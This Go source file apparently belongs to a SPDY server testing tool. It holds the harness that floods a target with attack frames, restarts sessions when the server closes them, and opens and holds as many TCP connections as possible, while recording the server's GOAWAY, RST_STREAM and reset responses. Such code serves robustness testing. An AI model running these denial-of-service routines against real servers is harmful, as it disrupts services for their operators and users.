package main

import (
	"bufio"
	"bytes"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"github.com/spdylab/spdylab/spdy"
)

// watch records what a server said on one attacking session.
type watch struct {
	start  time.Time
	closed chan struct{} // the reader stopped: EOF, reset or deadline

	mu       sync.Mutex
	goaway   *spdy.GoAwayFrame
	goawayAt time.Duration
	rst      spdy.RstStatus
	rstAt    time.Duration
	rsts     int
	end      error // why reading stopped
	endAt    time.Duration
}

func newWatch() *watch { return &watch{start: time.Now(), closed: make(chan struct{})} }

// read parses the server's frames until the connection ends.
func (w *watch) read(c net.Conn) {
	defer close(w.closed)
	fr := spdy.NewFramer(nil, bufio.NewReaderSize(c, 64<<10), 0)
	for {
		f, err := fr.ReadFrame()
		var se *spdy.StreamError
		if err != nil && !errors.As(err, &se) {
			if _, ok := err.(*spdy.SessionError); ok { // unparsable: keep draining
				_, err = io.Copy(io.Discard, c)
			}
			w.mu.Lock()
			w.end, w.endAt = err, time.Since(w.start)
			w.mu.Unlock()
			return
		}
		w.mu.Lock()
		switch f := f.(type) {
		case *spdy.GoAwayFrame:
			if w.goaway == nil {
				w.goaway, w.goawayAt = f, time.Since(w.start)
			}
		case *spdy.RstStreamFrame:
			if w.rsts == 0 {
				w.rst, w.rstAt = f.Status, time.Since(w.start)
			}
			w.rsts++
		}
		w.mu.Unlock()
	}
}

func (w *watch) isClosed() bool {
	select {
	case <-w.closed:
		return true
	default:
		return false
	}
}

// summary says how the session went: the server's first RST_STREAM and
// GOAWAY, and how the connection ended (or that it was still open).
func (w *watch) summary(writeErr error, writeErrAt time.Duration) string {
	w.mu.Lock()
	defer w.mu.Unlock()
	var s string
	add := func(format string, args ...any) {
		if s != "" {
			s += ", "
		}
		s += fmt.Sprintf(format, args...)
	}
	if w.rsts > 0 {
		add("RST_STREAM %s at %.2f s", w.rst, w.rstAt.Seconds())
		if w.rsts > 1 {
			add("%d RST_STREAMs in all", w.rsts)
		}
	}
	if w.goaway != nil {
		add("GOAWAY %s at %.2f s", w.goaway.Status, w.goawayAt.Seconds())
	}
	switch {
	case w.end == nil || errors.Is(w.end, os.ErrDeadlineExceeded):
		if writeErr != nil && !errors.Is(writeErr, os.ErrDeadlineExceeded) {
			add("write failed at %.2f s: %s", writeErrAt.Seconds(), errName(writeErr))
		} else {
			add("open at the end")
		}
	default:
		add("%s at %.2f s", errName(w.end), w.endAt.Seconds())
	}
	return s
}

// errName is a short name for how a connection ended.
func errName(err error) string {
	switch {
	case errors.Is(err, io.EOF), errors.Is(err, io.ErrUnexpectedEOF):
		return "closed"
	case errors.Is(err, syscall.ECONNRESET):
		return "reset"
	case errors.Is(err, syscall.EPIPE):
		return "broken pipe"
	}
	return err.Error()
}

// attackStream plays a one-connection class for d. When the server ends
// the session the client opens a new one and starts over, as a determined
// attacker would; the result describes the first session and counts them.
func attackStream(a attack, t targets, addr string, d time.Duration, abort <-chan struct{}) string {
	deadline := time.Now().Add(d)
	var first string
	sessions := 0
	for time.Now().Before(deadline) {
		s, err := attackSession(a, t, addr, deadline, abort)
		if err != nil {
			if first == "" {
				first = "dial: " + err.Error()
			}
			time.Sleep(100 * time.Millisecond)
			continue
		}
		sessions++
		if first == "" {
			first = s
		}
		select {
		case <-abort:
			deadline = time.Now()
		default:
		}
	}
	if sessions <= 1 {
		return first
	}
	return fmt.Sprintf("first of %d sessions: %s", sessions, first)
}

// attackSession plays one session until deadline, the server's end of it,
// or abort.
func attackSession(a attack, t targets, addr string, deadline time.Time, abort <-chan struct{}) (string, error) {
	c, err := net.DialTimeout("tcp", addr, 3*time.Second)
	if err != nil {
		return "", err
	}
	defer c.Close()
	w := newWatch()
	if !a.noRead {
		go w.read(c)
	}
	done := make(chan struct{})
	defer close(done)
	go func() {
		select {
		case <-abort:
			c.SetWriteDeadline(time.Now())
		case <-done:
		}
	}()
	var buf bytes.Buffer
	fr := spdy.NewFramer(&buf, nil, 0)
	c.SetWriteDeadline(deadline)
	var werr error
	var werrAt time.Duration
	for i := 0; time.Now().Before(deadline) && !w.isClosed(); i++ {
		buf.Reset()
		if a.raw != nil {
			buf.Write(a.raw(i))
		} else {
			for _, f := range a.frames(t, i) {
				fr.WriteFrame(f)
			}
			fr.Flush()
		}
		if buf.Len() == 0 {
			continue
		}
		if _, err := c.Write(buf.Bytes()); err != nil {
			werr, werrAt = err, time.Since(w.start)
			break
		}
	}
	if a.noRead { // now read what the server said, briefly
		c.SetReadDeadline(time.Now().Add(2 * time.Second))
		go w.read(c)
	} else if werr == nil && !w.isClosed() {
		c.SetReadDeadline(time.Now()) // the attack is over: stop the reader
	}
	if werr != nil { // give the reader a moment to see the GOAWAY and close
		c.SetReadDeadline(time.Now().Add(500 * time.Millisecond))
	}
	<-w.closed
	return w.summary(werr, werrAt), nil
}

// attackConns opens up to a.conns connections as fast as it can, sends
// raw(0) on each, and holds them until d has passed.
func attackConns(a attack, addr string, d time.Duration, abort <-chan struct{}) string {
	deadline := time.Now().Add(d)
	var conns []net.Conn
	var closedByServer atomic.Int64
	var ours atomic.Bool // we are closing: EOFs from now on are ours
	dialErrs := 0
	var firstErr error
	stopped := func() bool {
		select {
		case <-abort:
			return true
		default:
			return !time.Now().Before(deadline)
		}
	}
	for len(conns) < a.conns && !stopped() {
		c, err := net.DialTimeout("tcp", addr, 3*time.Second) // past one SYN retransmission
		if err != nil {
			if dialErrs++; firstErr == nil {
				firstErr = err
			}
			time.Sleep(10 * time.Millisecond)
			continue
		}
		conns = append(conns, c)
		if a.raw != nil {
			c.Write(a.raw(0))
		}
		go func() {
			io.Copy(io.Discard, c)
			if !ours.Load() {
				closedByServer.Add(1)
			}
		}()
	}
	select {
	case <-abort:
	case <-time.After(time.Until(deadline)):
	}
	closed := closedByServer.Load()
	ours.Store(true)
	for _, c := range conns {
		c.Close()
	}
	s := fmt.Sprintf("%d opened, %d closed by the server, %d held at the end", len(conns), closed, int64(len(conns))-closed)
	if dialErrs > 0 {
		s += fmt.Sprintf("; %d dials failed (%v)", dialErrs, firstErr)
	}
	return s
}
